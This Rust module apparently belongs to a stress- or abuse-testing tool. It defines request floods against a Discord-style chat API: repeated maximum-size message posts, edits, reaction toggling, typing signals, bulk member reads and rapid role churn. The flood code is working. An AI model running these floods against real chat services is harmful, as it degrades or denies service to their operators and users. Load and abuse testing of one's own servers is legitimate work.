//! Floods of requests over HTTP.

use anyhow::Result;
use serde_json::{Value, json};

use crate::attack::{Blow, Ground, Strike};
use crate::http::Api;

/// Bytes of a description of an embed, and embeds of a message: what Discord takes together.
const DESCRIPTION: usize = 2_900;
const EMBEDS: usize = 2;
/// Roles of an attacker's own guild; their sets are many.
const ROLES: usize = 16;

/// A request that is sent over and over.
type Asking = (&'static str, String, Option<Value>);

/// Sends the same few requests in turn.
struct Repeat {
    api: Api,
    all: Vec<Asking>,
    next: usize,
}

impl Repeat {
    fn of(ground: &Ground, number: usize, all: Vec<Asking>) -> Box<dyn Strike> {
        Box::new(Self { api: ground.api(number), all, next: 0 })
    }
}

impl Strike for Repeat {
    fn strike(&mut self) -> Result<Blow> {
        let (method, path, body) = &self.all[self.next % self.all.len()];
        self.next += 1;
        Ok(Blow::of_status(self.api.send(method, path, body.as_ref())?))
    }
}

/// Posts messages as large as they may be.
pub(in crate::attack) fn posts(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let path = format!("/channels/{}/messages", ground.channels[0]);
    Ok(Repeat::of(ground, number, vec![("POST", path, Some(large(0)))]))
}

/// Edits one message.
pub(in crate::attack) fn edits(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let api = ground.api(number);
    let path = format!("/channels/{}/messages", ground.channels[0]);
    let message = api.post(&path, &json!({ "content": "soon another" }))?;
    let path = format!("{path}/{}", message["id"].as_str().unwrap_or_default());
    let edit = |n| ("PATCH", path.clone(), Some(large(n)));
    Ok(Repeat::of(ground, number, vec![edit(0), edit(1)]))
}

/// Reacts, and takes it back.
pub(in crate::attack) fn reactions(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let Ground { channels, message, .. } = ground;
    let path = format!("/channels/{}/messages/{message}/reactions/%F0%9F%91%8D/@me", channels[0]);
    let all = ["PUT", "DELETE"].map(|method| (method, path.clone(), None));
    Ok(Repeat::of(ground, number, all.to_vec()))
}

/// Types.
pub(in crate::attack) fn typing(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let path = format!("/channels/{}/typing", ground.channels[0]);
    Ok(Repeat::of(ground, number, vec![("POST", path, None)]))
}

/// Reads members.
pub(in crate::attack) fn pages(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let path = format!("/guilds/{}/members?limit=1000", ground.guild);
    Ok(Repeat::of(ground, number, vec![("GET", path, None)]))
}

/// Gives one member a new set of roles, again and again, in a guild of the attacker's own.
pub(in crate::attack) fn roles(ground: &Ground, number: usize) -> Result<Box<dyn Strike>> {
    let api = ground.api(number);
    let (guest, guild) = (ground.guest(number), &ground.guest(number).guilds[0]);
    let role = |n: usize| {
        let made =
            api.post(&format!("/guilds/{guild}/roles"), &json!({ "name": n.to_string() }))?;
        Ok(made["id"].clone())
    };
    let roles = (0..ROLES).map(role).collect::<Result<_>>()?;
    let path = format!("/guilds/{guild}/members/{}", guest.account.id);
    // Each hand begins elsewhere, so that no two make the same change.
    Ok(Box::new(Churn { api, path, roles, set: number * 7_919 }))
}

struct Churn {
    api: Api,
    path: String,
    roles: Vec<Value>,
    set: usize,
}

impl Strike for Churn {
    fn strike(&mut self) -> Result<Blow> {
        self.set += 1;
        let chosen = self.roles.iter().enumerate().filter(|(n, _)| self.set >> n & 1 == 1);
        let roles: Vec<_> = chosen.map(|(_, role)| role).collect();
        let body = json!({ "roles": roles });
        Ok(Blow::of_status(self.api.send("PATCH", &self.path, Some(&body))?))
    }
}

/// Makes a message as large as it may be.
fn large(number: usize) -> Value {
    let embed = json!({ "title": number.to_string(), "description": "x".repeat(DESCRIPTION) });
    json!({ "content": "y".repeat(2_000), "embeds": vec![embed; EMBEDS] })
}
